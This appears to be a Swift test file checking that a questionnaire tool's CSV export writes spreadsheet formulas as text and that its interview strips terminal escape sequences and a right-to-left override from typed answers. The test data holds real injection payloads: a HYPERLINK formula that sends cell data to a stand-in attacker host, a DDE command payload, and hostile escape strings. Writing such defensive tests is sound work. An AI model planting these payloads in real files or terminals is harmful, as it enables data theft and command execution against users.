import AuditModel
import Foundation
import TestSupport
import Testing
import Workspace

@testable import Questionnaire

/// Payloads a client's file or a person may hold, to be shown and written harmlessly.
let formulaPayloads = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1", "'=already quoted",
]

@Suite struct AnswersCSVFormulas {
    private func answer(_ id: String, _ value: AnswerValue, note: String? = nil) -> Answer {
        Answer(questionID: id, value: value, note: note, source: .interview, answeredAt: "2026-11-29T10:00:00Z")
    }

    @Test(arguments: formulaPayloads)
    func aFormulaInAnAnswerIsWrittenAsTextAndReadBackAsItWas(payload: String) throws {
        let questionnaire = try small()
        let written = [answer("comment", .text(payload), note: payload), answer("managers", .number(-5))]
        let text = AnswersFile.export(written, questionnaire: questionnaire, format: .csv, language: .en)
        let quoted = "\"'" + payload.replacingOccurrences(of: "\"", with: "\"\"") + "\""
        #expect(text.contains(";" + quoted + ";" + quoted + ";;\r\n"), "\(text)")
        #expect(text.contains(";-5;;;\r\n"), "a number the tool writes stays a number")
        let (read, diagnostics, _) = AnswersFile.read(
            text: text, file: "a.csv", format: .csv, questionnaire: questionnaire, answeredAt: "t")
        #expect(!diagnostics.contains { $0.severity == .error && !$0.text.en.contains("managers") })
        let comment = read.first { $0.questionID == "comment" }
        #expect(comment?.value == .text(payload))
        #expect(comment?.note == payload)
    }
}

@Suite struct InterviewTerminalInjection {
    static let hostile = "\u{1B}]0;pwned\u{07}\u{1B}[2JHello"

    /// What is typed is cleaned of escape sequences and controls before it is read or stored
    /// (a pasted answer may carry them); what reaches the screen has no escape sequence of its
    /// own (only the interview's colours on a terminal) and no BEL.
    @Test(arguments: [false, true])
    func aTypedAnswerWithEscapeSequencesIsShownHarmless(onATerminal: Bool) throws {
        let fixture = try InterviewFixture()
        defer { fixture.directory.remove() }
        var interview = try Interview(
            questionnaire: fixture.questionnaire, store: fixture.workspace,
            round: try fixture.workspace.round(), language: .en)
        var console = ScriptedConsole(["2", "yes", "2026-03-01", "1,2", "7", Self.hostile])
        console.isTerminal = onATerminal
        _ = try interview.run(console: &console)
        #expect(try fixture.stored()["comment"]?.value == .text("Hello"))
        var again = try Interview(
            questionnaire: fixture.questionnaire, store: fixture.workspace,
            round: try fixture.workspace.round(), language: .en)
        var second = ScriptedConsole(["n", "note \u{1B}[2J\u{202E}txt.exe", ""])
        second.isTerminal = onATerminal
        _ = try again.edit(questionID: "comment", console: &second)
        for output in [console.output, second.output] {
            #expect(!output.contains("\u{1B}]"))
            #expect(!output.contains("\u{1B}[2J"))
            #expect(!output.contains("\u{07}"))
            #expect(!output.contains("\u{202E}"))
            #expect(onATerminal || !output.contains("\u{1B}"))
        }
        #expect(second.output.contains("Current answer: Hello"))
    }
}
